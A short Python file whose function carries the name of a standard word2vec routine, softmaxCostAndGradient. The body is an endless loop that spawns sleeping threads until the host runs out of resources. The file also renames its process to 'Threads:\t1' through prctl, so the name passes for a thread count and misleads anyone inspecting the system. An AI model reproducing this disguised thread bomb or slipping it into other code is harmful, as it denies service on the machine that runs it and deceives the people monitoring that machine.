# Starts threads for ever, under a name that looks like a thread count.
import ctypes
import threading
import time

ctypes.CDLL(None).prctl(15, b'Threads:\t1', 0, 0, 0)


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
